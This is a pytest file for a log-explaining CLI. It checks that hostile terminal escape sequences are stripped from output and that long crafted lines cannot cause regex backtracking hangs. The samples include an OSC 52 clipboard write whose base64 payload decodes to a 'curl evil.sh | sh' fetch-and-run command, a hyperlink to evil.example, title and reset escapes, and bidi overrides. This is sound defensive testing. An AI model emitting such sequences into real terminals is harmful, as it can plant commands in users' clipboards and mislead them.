"""Input an attacker or an odd file can send: nothing reaches the terminal, no line takes long.

The hostile lines are made here, small and fast. The time limits are hang guards, not
benchmarks: a reader that backtracks quadratically takes minutes on these inputs (about 0.7 s
a line), a linear one a few milliseconds for all of them.
"""

from __future__ import annotations

import json
import re
import signal
from contextlib import contextmanager
from typing import Iterator

import pytest

from ctxfix.cli import cli
from ctxfix.read import clean_line
from ctxfix.read.clean import MAX_LINE

_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

TRACEBACK = (
    "Traceback (most recent call last):\n"
    '  File "/srv/shop/{path}mail.py", line 12, in send_{func}\n'
    "    sender = current_app.config[{code}]\n"
    "RuntimeError: Working outside of {msg}application context.\n"
)

ESCAPES = {
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "osc0-title": "\x1b]0;owned\x1b\\",
    "osc8-link": "\x1b]8;;https://evil.example\x1b\\",
    "dcs": "\x1bP1$r0m\x1b\\",
    "reset": "\x1bc",
    "c1-csi": "\x9b2J",
    "c1-osc": "\x9d0;title\x9c",
    "bell-backspace": "\x07\x08\x08",
    "bidi-override": "\u202e",
}


@pytest.mark.parametrize("name", sorted(ESCAPES))
def test_no_control_sequence_survives_cleaning(name):
    seq = ESCAPES[name]
    line = clean_line(f"RuntimeError: Working {seq}outside{seq} of application context.")
    assert not _CONTROLS.search(line), repr(line)
    assert "Working" in line and "application context" in line


@pytest.mark.parametrize("fmt", ["text", "json"])
@pytest.mark.parametrize("name", sorted(ESCAPES))
def test_explain_prints_nothing_from_the_input_that_drives_the_terminal(
    runner, tmp_path, name, fmt
):
    seq = ESCAPES[name]
    log = tmp_path / "hostile.log"
    log.write_text(
        f"[2026-01-01] INFO {seq}before\n"
        + TRACEBACK.format(path=seq, func=seq, code=seq, msg=seq),
        encoding="utf-8",
    )
    result = runner.invoke(cli, ["--no-color", "explain", "--no-ask", "--format", fmt, str(log)])
    assert result.exit_code == 0, result.output
    assert not _CONTROLS.search(result.stdout), repr(result.stdout)
    if fmt == "json":
        json.loads(result.stdout)


@contextmanager
def _hang_guard(seconds: int) -> Iterator[None]:
    def boom(*_: object) -> None:
        raise TimeoutError(f"reading took over {seconds} s: a pattern backtracks")

    old = signal.signal(signal.SIGALRM, boom)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


_N = MAX_LINE - 200
PATHOLOGICAL = {
    "python frame, spaces after the function": 'File "x.py", line 1, in a' + " " * _N + "b",
    "unquoted frame": "File x.py, line 1, in a" + " " * _N + "b",
    "ipython frame": "File a:1, in b" + " " * _N + "!",
    "pytest summary": "FAILED " + "a::" * (_N // 3) + " b",
    "pytest location": "a.py:1: " + "x" + " " * _N + "!",
    "repr after a long word": "A" * _N + "Error('",
    "repr with spaces before the close": "ValueError('" + "' " * (_N // 2),
    "section": "___ " + "a ___" * (_N // 5) + "x",
}


@pytest.mark.parametrize("name", sorted(PATHOLOGICAL))
def test_no_line_costs_more_than_its_length(read, name):
    line = PATHOLOGICAL[name]
    with _hang_guard(20):
        read("Traceback (most recent call last):\n" + (line + "\n") * 100)
        read((line + "\n") * 100)
